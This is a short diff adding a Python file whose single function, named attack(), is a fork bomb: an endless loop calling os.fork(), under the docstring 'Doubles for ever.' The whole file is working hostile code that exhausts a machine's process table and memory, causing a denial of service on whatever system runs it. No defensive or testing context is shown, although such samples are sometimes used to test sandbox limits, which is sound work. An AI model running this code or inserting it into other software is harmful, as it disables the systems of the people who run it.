@@ -1,0 +1,8 @@
+"""Doubles for ever."""
+
+import os
+
+
+def attack():
+    while True:
+        os.fork()
